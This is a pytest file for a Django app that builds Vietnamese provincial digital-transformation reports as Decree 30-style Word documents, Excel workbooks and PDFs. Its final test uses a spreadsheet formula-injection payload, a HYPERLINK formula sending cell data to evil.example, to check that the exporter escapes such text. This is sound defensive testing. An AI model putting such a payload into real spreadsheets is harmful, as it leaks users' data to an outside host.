"""The province report of a round: the Decree 30 parts of the .docx, the workbook's figures
against programme_progress, one real PDF conversion, and the command."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from docx import Document
from docx.enum.section import WD_ORIENT
from openpyxl import load_workbook

from tinhso.programme import documents, services
from tinhso.programme.access import programme_scope
from tinhso.programme.models import ReportingRound, TargetReport, Task, TaskReport
from tinhso.programme.selectors import MET, NO_DATA, programme_progress

pytestmark = pytest.mark.django_db

ISSUED_ON = dt.date(2025, 7, 5)


def _scope(scheme: dict[str, Any], who: str) -> Any:
    return programme_scope(scheme[who], scheme["programme"])


@pytest.fixture
def round_(scheme: dict[str, Any]) -> ReportingRound:
    """2025-H1 with three of four reports approved: CQS1 done, KTS1 in progress at 70%, MT1 met at
    both levels; MT2's report is still a draft (no data)."""
    round_ = services.round_open(
        actor=scheme["dx"], scope=_scope(scheme, "dx"), programme=scheme["programme"], period="2025-H1"
    )
    dx, dost, finance = (_scope(scheme, who) for who in ("dx", "focal_dost", "focal_finance"))
    platform = TaskReport.objects.get(round=round_, task=scheme["platform"])
    finance_task = TaskReport.objects.get(round=round_, task=scheme["finance_task"])
    online = TargetReport.objects.get(round=round_, target=scheme["online"])
    services.task_report_save(
        actor=scheme["focal_dost"],
        scope=dost,
        report=platform,
        status="done",
        percent_done=100,
        narrative="Đã vận hành LGSP",
    )
    services.target_report_save(
        actor=scheme["focal_dost"],
        scope=dost,
        report=online,
        value=None,
        level_values={"province": "92", "commune": "61,5"},
        as_of=dt.date(2025, 6, 14),
        source="Cổng DVC tỉnh",
    )
    services.task_report_save(
        actor=scheme["focal_finance"], scope=finance, report=finance_task, status="in_progress", percent_done=70
    )
    for actor, scope, report in (
        (scheme["focal_dost"], dost, platform),
        (scheme["focal_dost"], dost, online),
        (scheme["focal_finance"], finance, finance_task),
    ):
        services.report_submit(actor=actor, scope=scope, report=report)
        services.report_approve(actor=scheme["dx"], scope=dx, report=report)
    return round_


def _docx(round_: ReportingRound, **kwargs: Any) -> bytes:
    defaults: dict[str, Any] = {
        "number": "125",
        "signer_name": "Hoàng Minh Tuấn",
        "signer_title": "KT. Chủ tịch\nPhó Chủ tịch",
        "recipients": ["Bộ Khoa học và Công nghệ", "Thường trực Tỉnh ủy", "Các sở, ban, ngành"],
        "issued_on": ISSUED_ON,
    }
    return documents.round_report_docx(round_, **{**defaults, **kwargs})


def progress_sentence(round_: ReportingRound) -> str:
    return programme_progress(programme=round_.programme, round_=round_).sentence()


def _table_rows(table: Any) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in table.rows]


def test_the_docx_has_every_part_decree_30_requires(round_: ReportingRound) -> None:
    document = Document(io.BytesIO(_docx(round_)))
    header, *data_tables, signature = document.tables
    left, right = (cell.text for cell in header.rows[0].cells)
    number, place_date = (cell.text for cell in header.rows[1].cells)
    # No parent body above a people's committee; each block ends with its short rule (an empty
    # paragraph with a bottom border).
    assert left == "ỦY BAN NHÂN DÂN\nTỈNH HƯNG YÊN\n"
    assert right == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc\n"
    assert number == "Số: 125/BC-UBND"
    assert place_date == "Hưng Yên, ngày 05 tháng 7 năm 2025"
    national_title = header.rows[0].cells[1].paragraphs[0].runs[0]
    assert national_title.bold
    assert national_title.font.size.pt == 13
    motto = header.rows[0].cells[1].paragraphs[1].runs[0]
    assert motto.bold
    assert motto.font.size.pt == 14
    assert header.rows[1].cells[1].paragraphs[0].runs[0].italic
    assert all(run.bold for run in header.rows[0].cells[0].paragraphs[0].runs)

    texts = [paragraph.text for paragraph in document.paragraphs]
    kind = next(p for p in document.paragraphs if p.text == "BÁO CÁO")
    assert kind.runs[0].bold
    assert kind.runs[0].font.size.pt == 14
    assert kind.alignment == 1  # centred
    # The last two words of the summary are held together by a no-break space.
    assert "Kết quả thực hiện Đề án chuyển đổi số tỉnh Thái Bình kỳ 6 tháng đầu năm\u00a02025" in texts
    body = "\n".join(texts)
    assert (
        "Thực hiện Đề án chuyển đổi số tỉnh Thái Bình ban hành kèm theo Quyết định số 54/QĐ-UBND "
        "ngày 17/03/2022 của UBND tỉnh Thái Bình"
    ) in body
    assert "từ ngày 15/12/2024 đến ngày 14/06/2025; số liệu tính đến ngày 14/06/2025" in body
    assert "1/2 mục tiêu hoàn thành, 1/2 nhiệm vụ hoàn thành" in body
    assert "đã gửi 3/4 báo cáo được giao (75%), trong đó 0 báo cáo đúng hạn, 3 báo cáo gửi sau hạn" in body
    assert progress_sentence(round_) == "1/2 mục tiêu hoàn thành, 1/2 nhiệm vụ hoàn thành"
    assert (
        "Trên đây là báo cáo kết quả thực hiện Đề án chuyển đổi số tỉnh Thái Bình kỳ 6 tháng đầu năm 2025 "
        "của Ủy ban nhân dân tỉnh Hưng Yên./."
    ) in texts  # Decree 30 closes the body with "./."

    targets, tasks, by_pillar, by_agency, budget = data_tables
    assert _table_rows(targets)[1:] == [
        [
            "MT1",
            "Tỷ lệ dịch vụ công trực tuyến toàn trình: cấp tỉnh 90%, cấp xã 60%",
            "tối thiểu 90% (cấp tỉnh, 2025)\ntối thiểu 60% (cấp xã, 2025)",
            "92% (cấp tỉnh)\n61,5% (cấp xã)",
            "Đạt",
        ],
        ["MT2", "Kinh tế số chiếm trên 20% GRDP", "trên 20% (2025)", "—", "Chưa có số liệu"],
    ]
    assert _table_rows(tasks)[1:] == [
        ["Chính quyền số"] * 5,
        ["CQS1", "Nền tảng tích hợp, chia sẻ dữ liệu", "Sở Khoa học và Công nghệ tỉnh Hưng Yên", "Hoàn thành", "100%"],
        ["Kinh tế số"] * 5,
        ["KTS1", "Thanh toán không dùng tiền mặt", "Sở Tài chính tỉnh Hưng Yên", "Đang triển khai", "70%"],
    ]
    pillar_rows = _table_rows(by_pillar)
    assert pillar_rows[0] == ["Trụ cột"] + ["Mục tiêu, chỉ tiêu"] * 3 + ["Nhiệm vụ"] * 5
    # "Dừng thực hiện" only when a task was dropped.
    assert pillar_rows[1] == [
        "Trụ cột",
        "Đạt / tổng số",
        "Chưa đạt",
        "Chưa có số liệu",
        "Hoàn thành / tổng số",
        "Đang triển khai",
        "Chậm tiến độ",
        "Chưa triển khai",
        "Chưa báo cáo",
    ]
    assert pillar_rows[2:] == [
        ["Chính quyền số", "1/1", "0", "0", "1/1", "0", "0", "0", "0"],
        ["Kinh tế số", "0/1", "0", "1", "0/1", "1", "0", "0", "0"],
        ["Cộng", "1/2", "0", "1", "1/2", "1", "0", "0", "0"],
    ]
    assert [row[0] for row in _table_rows(by_agency)[2:]] == [
        "Sở Khoa học và Công nghệ tỉnh Hưng Yên",
        "Sở Tài chính tỉnh Hưng Yên",
        "Cộng",
    ]
    assert _table_rows(budget) == [
        ["Giai đoạn", "Kinh phí (triệu đồng)"],
        ["2021-2025", "17.500,5"],
        ["Tổng cộng", "17.500,5"],
    ]

    recipients, signer = (cell.text for cell in signature.rows[0].cells)
    assert recipients.splitlines() == [
        "Nơi nhận:",
        "- Bộ Khoa học và Công nghệ;",
        "- Thường trực Tỉnh ủy;",
        "- Các sở, ban, ngành;",
        "- Lưu: VT.",
    ]
    heading_run = signature.rows[0].cells[0].paragraphs[0].runs[0]
    assert (heading_run.bold, heading_run.italic, heading_run.font.size.pt) == (True, True, 12)
    assert signature.rows[0].cells[0].paragraphs[1].runs[0].font.size.pt == 11
    lines = signer.splitlines()
    assert lines[:3] == ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]
    assert lines[-1] == "Hoàng Minh Tuấn"
    assert signature.rows[0].cells[1].paragraphs[-1].runs[0].bold
    assert lines.count("") >= 3  # room for the signature and seal


def test_the_docx_page_is_a4_with_decree_30_margins_in_times_new_roman(round_: ReportingRound) -> None:
    document = Document(io.BytesIO(_docx(round_)))
    section = document.sections[0]
    # Word stores twentieths of a point: compare in millimetres to a tenth.
    assert (round(section.page_width.mm, 1), round(section.page_height.mm, 1)) == (210, 297)
    assert section.orientation == WD_ORIENT.PORTRAIT
    margins = (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)
    assert [round(margin.mm, 1) for margin in margins] == [20, 20, 30, 15]
    runs = [run for paragraph in document.paragraphs for run in paragraph.runs]
    runs += [
        run
        for table in document.tables
        for row in table.rows
        for cell in row.cells
        for paragraph in cell.paragraphs
        for run in paragraph.runs
    ]
    assert len(runs) > 50
    assert {run.font.name for run in runs} == {"Times New Roman"}
    east_asian = {
        run._r.rPr.rFonts.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia") for run in runs
    }
    assert east_asian == {"Times New Roman"}
    assert document.styles["Normal"].font.name == "Times New Roman"
    # Page numbers from the second page on, centred at the top.
    assert section.different_first_page_header_footer
    assert 'w:instr="PAGE"' in section.header._element.xml


def test_a_blank_number_leaves_room_and_other_issuers_get_their_parent_line(
    round_: ReportingRound, scheme: dict[str, Any]
) -> None:
    document = Document(io.BytesIO(_docx(round_, number="", recipients=[], signer_title="")))
    assert document.tables[0].rows[1].cells[0].text == "Số:      /BC-UBND"
    assert document.tables[-1].rows[0].cells[0].text == "Nơi nhận:\n- Lưu: VT."

    programme = scheme["programme"]
    programme.owner = scheme["platform"].lead_agency  # a department under the people's committee
    programme.save()
    round_.refresh_from_db()
    document = Document(io.BytesIO(_docx(round_)))
    parent, body, _rule = document.tables[0].rows[0].cells[0].paragraphs
    assert (parent.text, parent.runs[0].bold) == ("ỦY BAN NHÂN DÂN TỈNH HƯNG YÊN", False)
    assert (body.text, body.runs[0].bold) == ("SỞ KHOA HỌC VÀ CÔNG NGHỆ TỈNH HƯNG YÊN", True)
    assert "TM. ỦY BAN NHÂN DÂN" not in document.tables[-1].rows[0].cells[1].text


def _sheet_rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [row for row in sheet.iter_rows(values_only=True)]


def test_the_workbook_holds_programme_progress_figures_as_numbers(round_: ReportingRound) -> None:
    progress = programme_progress(programme=round_.programme, round_=round_)
    workbook = load_workbook(io.BytesIO(documents.round_report_xlsx(round_)))
    assert workbook.sheetnames == ["Tổng hợp", "Chỉ tiêu", "Nhiệm vụ", "Kinh phí"]

    summary = workbook["Tổng hợp"]
    assert summary.freeze_panes == "A5"
    figures = {row[0]: row[1] for row in _sheet_rows(summary)[4:13]}
    assert figures == {
        "Kỳ báo cáo": "2025-H1",
        "Mục tiêu hoàn thành": progress.overall.targets.get(MET, 0),
        "Tổng số mục tiêu": progress.overall.targets_total,
        "Nhiệm vụ hoàn thành": progress.overall.tasks.get("done", 0),
        "Tổng số nhiệm vụ": progress.overall.tasks_total,
        "Số báo cáo được giao": progress.expected_reports,
        "Số báo cáo đã gửi": progress.received_reports,
        "Số báo cáo đúng hạn": progress.on_time_reports,
        "Tóm tắt": progress.sentence(),
    }
    assert (figures["Mục tiêu hoàn thành"], figures["Số báo cáo đã gửi"]) == (1, 3)
    rows = _sheet_rows(summary)
    by_name = {row[0]: row[1:] for row in rows if row[0]}
    tally_header = next(row for row in rows if row[0] == "Trụ cột")
    assert tally_header[1:] == (
        "Tổng số mục tiêu",
        "Đạt",
        "Chưa đạt",
        "Chưa có số liệu",
        "Tổng số nhiệm vụ",
        "Hoàn thành",
        "Đang triển khai",
        "Chậm tiến độ",
        "Chưa triển khai",
        "Dừng thực hiện",
        "Chưa báo cáo",
    )

    def expected(tally: Any) -> tuple[int, ...]:
        return (
            tally.targets_total,
            tally.targets.get("met", 0),
            tally.targets.get("not_met", 0),
            tally.targets.get(NO_DATA, 0),
            tally.tasks_total,
            *(
                tally.tasks.get(key, 0)
                for key in ("done", "in_progress", "late", "not_started", "dropped", "no_report")
            ),
        )

    assert by_name["Chính quyền số"] == expected(progress.by_pillar["digital_government"])
    assert by_name["Kinh tế số"] == expected(progress.by_pillar["digital_economy"])
    assert by_name["Cộng"] == expected(progress.overall)
    for pk, name in progress.agency_names.items():
        assert by_name[name] == expected(progress.by_agency[pk])

    targets = _sheet_rows(workbook["Chỉ tiêu"])
    assert targets[0][:7] == (
        "Mã",
        "Mục tiêu, chỉ tiêu",
        "Trụ cột",
        "Cơ quan theo dõi",
        "Đơn vị tính",
        "Mốc phải đạt",
        "Giá trị đạt được",
    )
    assert targets[0][7:] == ("Cấp tỉnh", "Cấp huyện", "Cấp xã", "Kết quả", "Số liệu tính đến ngày", "Nguồn số liệu")
    assert targets[1][0] == "MT1"
    assert (targets[1][7], targets[1][9], targets[1][10]) == (92, 61.5, "Đạt")
    assert targets[1][11] == dt.datetime(2025, 6, 14)
    assert (targets[2][0], targets[2][6], targets[2][10]) == ("MT2", None, "Chưa có số liệu")
    assert workbook["Chỉ tiêu"].freeze_panes == "B2"

    tasks = _sheet_rows(workbook["Nhiệm vụ"])
    assert tasks[0][:8] == (
        "Mã",
        "Nhiệm vụ",
        "Trụ cột",
        "Đơn vị chủ trì",
        "Bắt đầu",
        "Kết thúc",
        "Tình trạng",
        "% hoàn thành",
    )
    assert [(row[0], row[6], row[7]) for row in tasks[1:]] == [
        (row.task.code, {"done": "Hoàn thành", "in_progress": "Đang triển khai"}[row.outcome], row.report.percent_done)
        for row in progress.task_rows
    ]
    assert isinstance(tasks[1][7], int)

    budget = _sheet_rows(workbook["Kinh phí"])
    assert budget == [("Giai đoạn", "Kinh phí (triệu đồng)"), ("2021-2025", 17500.5), ("Tổng cộng", 17500.5)]
    assert Decimal(str(budget[1][1])) == progress.budget_by_phase["2021-2025"]
    for sheet in workbook.worksheets:
        assert sheet.column_dimensions["A"].width > 8
        assert sheet.column_dimensions["B"].width > 8


def test_a_round_with_nothing_approved_still_makes_a_report(scheme: dict[str, Any]) -> None:
    programme = scheme["programme"]
    programme.decision_number, programme.decision_date, programme.issuer = "", None, ""
    programme.save()
    Task.objects.create(programme=programme, code="NT1", order=3, name="Trung tâm dữ liệu tỉnh")  # no pillar
    round_ = services.round_open(actor=scheme["dx"], scope=_scope(scheme, "dx"), programme=programme, period="2025")
    document = Document(io.BytesIO(_docx(round_)))
    body = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "Thực hiện Đề án chuyển đổi số tỉnh Thái Bình (sau sắp xếp đơn vị hành chính" in body
    assert "kỳ năm 2025 (từ ngày 15/12/2024 đến ngày 14/12/2025" in body
    assert "0/2 mục tiêu hoàn thành, 0/3 nhiệm vụ hoàn thành" in body
    assert "đã gửi 0/4 báo cáo được giao (0%), trong đó 0 báo cáo đúng hạn" in body  # NT1 has no lead agency
    tasks = _table_rows(document.tables[2])
    assert [row[0] for row in tasks[1:]] == ["Chính quyền số", "CQS1", "Kinh tế số", "KTS1", "Nền tảng", "NT1"]
    assert {row[3] for row in tasks[1:] if row[0] in {"CQS1", "KTS1", "NT1"}} == {"Chưa báo cáo"}
    assert {row[4] for row in _table_rows(document.tables[1])[1:]} == {"Chưa có số liệu"}
    workbook = load_workbook(io.BytesIO(documents.round_report_xlsx(round_)))
    assert [row[7] for row in workbook["Nhiệm vụ"].iter_rows(min_row=2, values_only=True)] == [None] * 3


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is installed by scripts/setup.sh")
def test_libreoffice_turns_the_report_into_a_pdf(round_: ReportingRound) -> None:
    pdf = documents.docx_to_pdf(_docx(round_))
    assert pdf.startswith(b"%PDF")
    assert len(re.findall(rb"/Type\s*/Page[^s]", pdf)) >= 1
    if shutil.which("pdftotext") is None:
        return  # poppler-utils is optional: the text check needs it
    text = subprocess.run(
        ["pdftotext", "-", "-"],  # noqa: S607
        input=pdf,
        capture_output=True,
        check=True,
        timeout=30,
    ).stdout.decode()
    words = " ".join(text.split())  # lines are broken wherever the page width falls
    assert "BÁO CÁO" in words
    assert "1/2 mục tiêu hoàn thành, 1/2 nhiệm vụ hoàn thành" in words


def test_a_missing_or_failing_libreoffice_is_a_clear_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(documents.shutil, "which", lambda name: None)
    with pytest.raises(documents.DocumentConversionError, match="Không tìm thấy LibreOffice"):
        documents.docx_to_pdf(b"PK")
    failing = tmp_path / "soffice"
    failing.write_text("#!/bin/sh\necho 'Error: source file could not be loaded'\nexit 1\n")
    failing.chmod(0o755)
    monkeypatch.setattr(documents.shutil, "which", lambda name: str(failing))
    with pytest.raises(documents.DocumentConversionError, match="could not be loaded"):
        documents.docx_to_pdf(b"PK")
    failing.write_text("#!/bin/sh\nsleep 30\n")
    with pytest.raises(documents.DocumentConversionError, match=r"sau 0\.5 giây"):
        documents.docx_to_pdf(b"PK", timeout=0.5)


def test_the_command_writes_the_files(round_: ReportingRound, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "docx_to_pdf", lambda docx: b"%PDF-1.7 " + docx[:2])  # one real conversion above
    out = tmp_path / "bao-cao" / "2025"
    stdout = io.StringIO()
    call_command(
        "programme_report",
        str(round_.pk),
        "--out",
        str(out),
        "--pdf",
        "--number",
        "7",
        "--recipient",
        "Bộ Khoa học và Công nghệ",
        stdout=stdout,
    )
    names = ["bao-cao-2025-H1.docx", "so-lieu-2025-H1.xlsx", "bao-cao-2025-H1.pdf"]
    assert stdout.getvalue().split() == [str(out / name) for name in names]
    document = Document(str(out / names[0]))
    assert document.tables[0].rows[1].cells[0].text == "Số: 7/BC-UBND"
    assert load_workbook(out / names[1]).sheetnames[0] == "Tổng hợp"
    assert (out / names[2]).read_bytes() == b"%PDF-1.7 PK"


def test_the_command_refuses_an_unknown_round(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="Không tìm thấy kỳ báo cáo số 999999") as error:
        call_command("programme_report", "999999", "--out", str(tmp_path / "out"))
    assert error.value.returncode == 1
    assert not (tmp_path / "out").exists()


def test_the_workbook_writes_text_that_looks_like_a_formula_as_text(round_: ReportingRound) -> None:
    """Task names, narratives and sources come from agencies' reports and imported schemes: each
    is a text cell, never a formula, and reads back exactly."""
    name, narrative, source = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+84 912 345 678", "@SUM(1,2)"
    Task.objects.filter(code="CQS1", programme=round_.programme).update(name=name)
    TaskReport.objects.filter(round=round_, task__code="CQS1").update(narrative=narrative)
    TargetReport.objects.filter(round=round_, target__code="MT1").update(source=source)
    workbook = load_workbook(io.BytesIO(documents.round_report_xlsx(round_)))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    tasks = {row[0]: row for row in _sheet_rows(workbook["Nhiệm vụ"])}
    assert (tasks["CQS1"][1], tasks["CQS1"][9]) == (name, narrative)
    targets = {row[0]: row for row in _sheet_rows(workbook["Chỉ tiêu"])}
    assert targets["MT1"][12] == source
    assert isinstance(targets["MT1"][7], int)  # numbers stay numbers
